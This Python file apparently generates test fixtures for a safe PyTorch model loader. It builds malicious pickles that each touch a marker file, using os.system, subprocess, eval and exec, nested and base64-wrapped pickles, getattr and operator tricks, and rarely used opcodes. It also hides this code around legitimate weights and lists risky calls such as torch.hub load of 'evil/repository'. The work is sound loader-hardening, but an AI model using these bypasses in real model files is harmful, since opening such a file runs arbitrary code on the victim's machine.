"""Pickles that run something: in torch's two formats, bare, and amid good weights."""

from __future__ import annotations

import base64
import pickle
import struct
from collections import OrderedDict
from collections.abc import Iterator
from typing import Any

from torch import Tensor

from hostile_parts.containers import Elements, legacy, pickled, specs_of, zipped
from hostile_parts.maker import Maker


def unicode(text: str) -> bytes:
    """Return the opcode that puts a text on the stack."""
    data = text.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def call(function: str, *arguments: bytes) -> bytes:
    """Return opcodes that call ``module name`` with what opcodes put on the stack, and leave the result there."""
    module, name = function.split(" ")
    return b"c" + f"{module}\n{name}\n".encode() + b"(" + b"".join(arguments) + b"tR"


def whole(opcodes: bytes, protocol: int = 2) -> bytes:
    """Return the pickle that leaves what these opcodes leave."""
    return b"\x80" + bytes([protocol]) + opcodes + b"."


def payloads(marker: str) -> Iterator[tuple[str, str, bytes]]:
    """Yield (name, first global, opcodes); each makes the marker when a careless loader runs it."""
    shell, python = f"touch '{marker}'", f"open({marker!r}, 'w').close()"
    argv = b"](" + unicode("touch") + unicode(marker) + b"e"
    simple = {
        "os system": [unicode(shell)],
        "posix system": [unicode(shell)],
        "os mkdir": [unicode(marker)],
        "os popen": [unicode(shell)],
        "subprocess call": [argv],
        "subprocess run": [argv],
        "subprocess check_output": [argv],
        "subprocess Popen": [argv],
        "subprocess getoutput": [unicode(shell)],
        "pty spawn": [argv],
        "builtins eval": [unicode(python)],
        "builtins exec": [unicode(python)],
        "__builtin__ eval": [unicode(python)],
        "builtins open": [unicode(marker), unicode("w")],
        "io open": [unicode(marker), unicode("w")],
        "codecs open": [unicode(marker), unicode("w")],
        "timeit timeit": [unicode("0"), unicode(python), b"I0\n", b"I1\n"],
        "timeit main": [b"](" + unicode("-n1") + unicode("-r1") + unicode(python) + b"e"],
        "cProfile run": [unicode(python)],
        "profile run": [unicode(python)],
        "runpy _run_code": [call("builtins compile", *map(unicode, (python, "x", "exec"))), b"}"],
        "shutil copyfile": [unicode("/dev/null"), unicode(marker)],
        "os symlink": [unicode("/dev/null"), unicode(marker)],
        "numpy.testing._private.utils runstring": [unicode(python), b"}"],
        "torch.utils.collect_env run": [unicode(shell)],
        "torch.storage _load_from_bytes": [_bytes(_torch_bytes(shell))],
    }
    for function, arguments in simple.items():
        yield function, function, call(function, *arguments)
    yield from _nested(shell, python)
    yield from _other_opcodes(shell, argv, marker)


def _bytes(data: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(data)) + data


def _torch_bytes(shell: str) -> bytes:
    return legacy(whole(call("os system", unicode(shell))))


def _nested(shell: str, python: str) -> Iterator[tuple[str, str, bytes]]:
    system = b"cos\nsystem\n"
    bare = whole(call("os system", unicode(shell)))
    imported = call("builtins __import__", unicode("os"))
    yield "import and getattr", "builtins getattr", _apply(call("builtins getattr", imported, unicode("system")), shell)
    yield (
        "importlib",
        "builtins getattr",
        _apply(call("builtins getattr", call("importlib import_module", unicode("os")), unicode("system")), shell),
    )
    yield "functools.partial", "functools partial", call("functools partial", system, unicode(shell)) + b")R"
    yield (
        "operator.methodcaller",
        "operator methodcaller",
        (call("operator methodcaller", unicode("system"), unicode(shell)) + b"(" + imported + b"tR"),
    )
    yield (
        "operator.attrgetter",
        "operator attrgetter",
        _apply(call("operator attrgetter", unicode("system")) + b"(" + imported + b"tR", shell),
    )
    yield "pickle within a pickle", "pickle loads", call("pickle loads", _bytes(bare))
    yield "_pickle within a pickle", "_pickle loads", call("_pickle loads", _bytes(bare))
    encoded = base64.b64encode(bare).decode()
    decoded = call("base64 b64decode", unicode(encoded))
    yield "pickle within base64", "pickle loads", call("pickle loads", decoded)
    code = call("builtins compile", unicode(python), unicode("x"), unicode("exec"))
    yield "a function of code", "types FunctionType", call("types FunctionType", code, b"}") + b")R"
    yield "map", "builtins list", call("builtins list", call("builtins map", system, b"](" + unicode(shell) + b"e"))
    yield (
        "a chain of callables",
        "builtins next",
        call("builtins next", call("builtins map", system, b"](" + unicode(shell) + b"e")),
    )
    yield (
        "a key of a mapping",
        "collections OrderedDict",
        call("collections OrderedDict", b"](](" + unicode("x") + call("os system", unicode(shell)) + b"ee"),
    )
    yield (
        "a tensor's type",
        "torch._tensor _rebuild_from_type_v2",
        call("torch._tensor _rebuild_from_type_v2", system, b"cbuiltins\nint\n", b"(" + unicode(shell) + b"t", b"}"),
    )


def _apply(function: bytes, text: str) -> bytes:
    return function + b"(" + unicode(text) + b"tR"


def _other_opcodes(shell: str, argv: bytes, marker: str) -> Iterator[tuple[str, str, bytes]]:
    yield "STACK_GLOBAL", "os system", unicode("os") + unicode("system") + b"\x93(" + unicode(shell) + b"tR"
    yield "INST", "os system", b"(" + unicode(shell) + b"ios\nsystem\n"
    yield "OBJ", "os system", b"(cos\nsystem\n" + unicode(shell) + b"o"
    yield (
        "NEWOBJ",
        "subprocess Popen",
        b"csubprocess\nPopen\n" + b"(" + argv + b"t\x81}" + b"b0" + call("os system", unicode(shell)),
    )
    yield (
        "BUILD",
        "builtins eval",
        (
            b"ctypes\nSimpleNamespace\n)\x81}("
            + unicode("x")
            + call("builtins open", unicode(marker), unicode("w"))
            + b"ub"
        ),
    )
    yield (
        "a dotted name",
        "pathlib Path.touch",
        (
            b"\x80\x04"
            + unicode("pathlib")
            + unicode("Path.touch")
            + b"\x93("
            + call("pathlib Path", unicode(marker))
            + b"tR"
        ),
    )


SILENT = {
    "torch.hub load": [unicode("evil/repository"), unicode("model")],
    "torch.hub download_url_to_file": [unicode("http://127.0.0.1:9/x"), unicode("x")],
    "torch load": [unicode("../secret")],
    "torch.jit load": [unicode("../secret")],
    "torch.serialization add_safe_globals": [b"]cos\nsystem\na"],
    "torch.package PackageImporter": [unicode("../secret")],
    "numpy load": [unicode("../secret"), b"N", b"\x88"],
    "numpy fromfile": [unicode("../secret")],
    "ctypes CDLL": [unicode("../secret")],
    "urllib.request urlopen": [unicode("http://127.0.0.1:9/")],
    "socket create_connection": [b"(" + unicode("127.0.0.1") + b"I9\nt"],
    "sys exit": [b"I0\n"],
    "sys setrecursionlimit": [b"J\xff\xff\xff\x7f"],
    "os putenv": [unicode("X"), unicode("1")],
    "os chdir": [unicode("/")],
    "os umask": [b"I0\n"],
    "time sleep": [b"I3600\n"],
    "signal alarm": [b"I1\n"],
    "builtins breakpoint": [],
    "builtins input": [],
    "builtins print": [unicode("exploded")],
    "warnings simplefilter": [unicode("error")],
    "logging disable": [b"I50\n"],
    "webbrowser open": [unicode("http://127.0.0.1:9/")],
    "tempfile mkdtemp": [],
    "threading Thread": [],
    "gc disable": [],
    "itertools count": [],
    "numpy zeros": [b"(J\xff\xff\xff\x7fJ\xff\xff\xff\x7ft"],
    "builtins bytearray": [b"\x8a\x06\x00\x00\x00\x00\x00\x01"],
    "builtins range": [b"\x8a\x08\xff\xff\xff\xff\xff\xff\xff\x7f"],
}


class ObjectArray:
    """A numpy array of objects, one of which runs something."""

    def __init__(self, shell: str) -> None:
        self.shell = shell

    def __reduce__(self) -> tuple[Any, ...]:
        import os

        return os.system, (self.shell,)


def write(maker: Maker, state: OrderedDict[str, Tensor]) -> None:
    """Make them. ``state``: a good network's."""
    specs, storages = specs_of(state)
    for name, function, opcodes in payloads(str(maker.marker)):
        word = function.split(" ")[1].split(".")[0] if name == function else ""
        maker.add(f"{name}, in a zip", zipped(whole(opcodes)), says=word)
        maker.add(f"{name}, in the legacy format", legacy(whole(opcodes)), says=word)
        maker.add(f"{name}, as a bare pickle", whole(opcodes), file="model.pkl", runs=True)
    for function, arguments in SILENT.items():
        maker.add(f"{function}, in a zip", zipped(whole(call(function, *arguments))), says=function.split(" ")[1])
    shell = f"touch '{maker.marker}'"
    evil = call("os system", unicode(shell))
    _add_positions(maker, specs, storages, evil)
    import numpy as np

    array = np.array([ObjectArray(shell)], dtype=object)
    maker.add("a numpy array of objects", zipped(pickle.dumps({"model.1.weight": array}, 2)))
    maker.add("a numpy array of objects, bare", pickle.dumps(array, 4), file="model.pkl", runs=True)


def _add_positions(maker: Maker, specs: OrderedDict[str, object], storages: dict[str, Elements], evil: bytes) -> None:
    """Code in every place where a loader may look first, or last."""
    for kind, body in (("a zip", pickled(specs)), ("the legacy format", pickled(specs, views=True))):
        pack = zipped if kind == "a zip" else legacy
        after, before = body[:-1] + unicode("x") + evil + b"s.", body[:2] + evil + b"0" + body[2:]
        maker.add(f"code after good weights, in {kind}", pack(after, storages), says="system")
        maker.add(f"code before good weights, in {kind}", pack(before, storages), says="system")
    maker.add("a good pickle, then an evil one", zipped(pickled(specs) + whole(evil), storages), refused=False)
    body = pickled(specs, views=True)
    maker.add("code for the magic number", legacy(body, storages, magic=whole(evil)))
    maker.add("code for the system's data", legacy(body, storages, system=whole(evil)))
    maker.add("code for the storages' keys", legacy(body, storages, keys=whole(evil)))
    maker.add("code for the first pickle, bare", whole(evil) + body, file="model.pkl", runs=True)
    persistent = b"((" + unicode("storage") + b"ctorch\nFloatStorage\n" + evil + unicode("cpu") + b"K\x01tQ"
    maker.add("code for a storage's key", zipped(whole(persistent), storages), says="system")
    maker.add(
        "code for a storage's kind",
        zipped(whole(b"(" + unicode("storage") + evil + unicode("0") + b"tQ")),
        says="system",
    )
    more = {"data.pkl.bak": whole(evil), "code/__init__.py": b"import os", ".data/x.pkl": whole(evil)}
    maker.add("good weights beside records of code", zipped(pickled(specs), storages, more), refused=False)
